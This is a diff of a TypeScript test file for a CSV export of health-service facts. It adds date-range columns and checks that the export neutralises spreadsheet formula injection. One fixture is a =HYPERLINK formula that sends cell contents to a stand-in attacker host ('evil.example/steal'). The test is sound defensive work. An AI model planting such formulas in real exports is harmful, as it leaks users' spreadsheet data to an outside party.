@@ -16,7 +16,12 @@ async function csvOf(db: Database, filters: FactFilters, excel = false): Promise
   return Buffer.concat(chunks).toString('utf8');
 }
 
-const HEADER = ['date', 'service', 'region', 'status', 'provider', 'target', 'evidence', 'quote', 'speaker', 'source', 'title', 'url'];
+const HEADER = [
+  'date', 'effective', 'effective_start', 'effective_end', 'service', 'region', 'status', 'provider',
+  'target', 'target_start', 'target_end', 'evidence', 'quote', 'speaker', 'source', 'title', 'url',
+];
+/** Records as objects keyed by the header, so a test reads cells by column name. */
+const records = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(HEADER.map((h, i) => [h, r[i]!])));
 
 const WELSH = 'Ysbyty Gwynedd – £5m "new" front door, for urgent care\nopens in July.';
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for details")';
@@ -35,18 +40,18 @@ async function hostileFacts(db: Database): Promise<void> {
 }
 
 function expectNeutralised(rows: string[][]): void {
-  const body = rows.slice(1);
+  const body = records(rows);
   expect(body).toHaveLength(2);
-  const byStatus = Object.fromEntries(body.map((r) => [r[3], r]));
-  expect(byStatus.planned[2]).toBe("'-1");
-  expect(byStatus.planned[4]).toBe("'+44 20 7946 0000");
-  expect(byStatus.planned[6]).toBe(WELSH);
-  expect(byStatus.planned[10]).toBe(`'${HYPERLINK}`);
-  expect(byStatus.live[2]).toBe("'\tTabbed");
-  expect(byStatus.live[4]).toBe("'\r=1+1");
-  expect(byStatus.live[6]).toBe("'@SUM(A1:A9) is not a sentence.");
+  const byStatus = Object.fromEntries(body.map((r) => [r.status, r]));
+  expect(byStatus.planned!.region).toBe("'-1");
+  expect(byStatus.planned!.provider).toBe("'+44 20 7946 0000");
+  expect(byStatus.planned!.evidence).toBe(WELSH);
+  expect(byStatus.planned!.title).toBe(`'${HYPERLINK}`);
+  expect(byStatus.live!.region).toBe("'\tTabbed");
+  expect(byStatus.live!.provider).toBe("'\r=1+1");
+  expect(byStatus.live!.evidence).toBe("'@SUM(A1:A9) is not a sentence.");
   // No cell a spreadsheet would evaluate.
-  for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
 }
 
 // One seeded database for the tests that only read; the hostile-text test has its own.
@@ -62,17 +67,32 @@ describe('CSV export', () => {
     const rows = parseCsv(await csvOf(t.db, {}));
     expect(rows[0]).toEqual(HEADER);
     expect(rows.length - 1).toBe(COUNTED_EVENT_IDS.length);
-    const paused = rows.filter((r) => r[3] === 'paused' && r[4] === 'Derbyshire Health United');
+    const paused = records(rows).filter((r) => r.status === 'paused' && r.provider === 'Derbyshire Health United');
     expect(paused).toHaveLength(1);
-    expect(paused[0][0]).toBe('2013-05-21');
-    expect(paused[0][11]).toBe('https://www.example-gp-press.co.uk/news/111-launch-on-hold');
+    expect(paused[0]!.date).toBe('2013-05-21');
+    expect(paused[0]!.url).toBe('https://www.example-gp-press.co.uk/news/111-launch-on-hold');
+  });
+
+  it('gives every target and effective date as first and last days, so a spreadsheet sorts them as dates', async () => {
+    const body = records(parseCsv(await csvOf(t.db, {})));
+    const byTarget = Object.fromEntries(body.filter((r) => r.target).map((r) => [r.target, [r.target_start, r.target_end]]));
+    expect(byTarget).toEqual({
+      '2013-04': ['2013-04-01', '2013-04-30'],
+      '2013-03': ['2013-03-01', '2013-03-31'],
+      '2013-08': ['2013-08-01', '2013-08-31'],
+      '2014-04': ['2014-04-01', '2014-04-30'],
+    });
+    for (const r of body) {
+      for (const day of [r.target_start, r.target_end, r.effective_start, r.effective_end]) if (day) expect(day).toMatch(/^\d{4}-\d{2}-\d{2}$/);
+      expect(r.effective).toBe(r.date); // the fixture's facts took effect when reported
+    }
   });
 
   it('puts the quote and its speaker beside a fact stated in a quotation', async () => {
-    const rows = parseCsv(await csvOf(t.db, { status: 'paused' }));
-    const quoted = rows.find((r) => r[7] !== '' && r[0] !== 'date');
-    expect(quoted?.[7]).toContain('rather launch late');
-    expect(quoted?.[8]).toBe('Dr Priya Shah, clinical lead for the programme');
+    const body = records(parseCsv(await csvOf(t.db, { status: 'paused' })));
+    const quoted = body.find((r) => r.quote !== '');
+    expect(quoted?.quote).toContain('rather launch late');
+    expect(quoted?.speaker).toBe('Dr Priya Shah, clinical lead for the programme');
   });
 
   it('without --excel: no BOM; every record ends CRLF as RFC 4180 requires', async () => {
